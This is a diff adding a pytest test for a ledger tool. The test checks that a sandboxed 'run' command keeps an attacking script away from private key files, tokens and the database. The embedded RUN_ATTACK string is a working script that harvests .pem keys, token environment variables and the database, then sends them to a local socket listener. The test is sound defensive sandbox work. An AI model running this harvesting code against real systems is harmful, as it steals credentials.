@@ -13,6 +13,7 @@ from __future__ import annotations
 import json
 import secrets
 import socket
+import sys
 import threading
 from collections.abc import Iterator
 from pathlib import Path
@@ -198,5 +199,77 @@ def test_an_attacking_pull_request_reaches_nothing_and_honest_claims_pass(
     arms = [p for p in out.iterdir() if "grad_arm" in p.name]
     assert arms, sorted(p.name for p in out.iterdir())
     assert all(needles[0] in p.read_text() and token in p.read_text() for p in arms)
+    assert any(token.encode() in got for got in listener.received)
+    assert "database-writable" in r.err
+
+
+RUN_ATTACK = """
+import glob, os, socket, sys
+loot = []
+for pattern in {loot!r}:
+    for f in glob.glob(pattern):
+        try:
+            loot.append(open(f, "rb").read().decode("latin-1"))
+        except OSError:
+            pass
+loot += [k + "=" + v for k, v in os.environ.items() if "TOKEN" in k or k == "LEDGER_KEYS"]
+try:
+    open({db!r}, "r+b").close()
+    loot.append("database-writable")
+except OSError:
+    pass
+text = "|".join(loot)
+try:
+    open(os.path.join({out!r}, "run"), "w").write(text)
+except OSError:
+    pass
+try:
+    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
+        s.sendall(text.encode())
+except OSError:
+    pass
+print("stole", len(loot), text, flush=True)
+print("ledger variables:", sorted(k for k in os.environ if k.startswith("LEDGER_")), flush=True)
+"""
+
+
+def test_ledger_run_keeps_an_attacking_command_from_every_secret(
+    tmp_path: Path,
+    key_dir: Path,
+    repo: git.Repo,
+    monkeypatch: pytest.MonkeyPatch,
+    capfd: pytest.CaptureFixture[str],
+    listener: Listener,
+) -> None:
+    from tests.conftest import commit_file
+
+    db = tmp_path / "l.db"
+    token = "tok-" + secrets.token_hex(16)
+    monkeypatch.setenv("LEDGER_DB", str(db))
+    monkeypatch.setenv("LEDGER_TOKEN", token)
+    monkeypatch.chdir(tmp_path)
+    commit_file(repo, "qualification.toml", '[[claims]]\nname = "suite"\ncheck = "command"\n', "p")
+    assert run(capfd, "init").code == 0
+    assert run(capfd, "keys", "new", "runner", "--role", "runner").code == 0
+    out = tmp_path / "exfil"
+    out.mkdir()
+    code = RUN_ATTACK.format(
+        loot=[f"{key_dir}/*.pem", str(db)], db=str(db), out=str(out), port=listener.port
+    )
+    needles = [p.read_text().splitlines()[1] for p in key_dir.glob("*.pem")]
+    needles += [token, "SQLite format 3"]
+    args = ("run", "--claim", "suite", "--rev", "main", "--repo", str(repo.working_tree_dir))
+    cmd = ("--key", "runner", "--", sys.executable, "-c", code)
+    r = run(capfd, *args, *cmd)
+    assert r.code == 0, r.err
+    assert "stole 0" in r.err and "ledger variables: ['LEDGER_RUN_ID']" in r.err
+    assert list(out.iterdir()) == [] and listener.received == []
+    shown = run(capfd, "show", r.out.strip(), "--json").out
+    assert json.loads(shown)["statement"]["predicate"]["scope"]["sandbox"] == "bwrap"
+    for needle in needles:
+        assert needle not in r.out + r.err + shown
+    # Unsandboxed, the same command reaches them all: the test can fail.
+    r = run(capfd, *args, "--sandbox", "none", *cmd)
+    assert token in (out / "run").read_text() and needles[0] in (out / "run").read_text()
     assert any(token.encode() in got for got in listener.received)
     assert "database-writable" in r.err
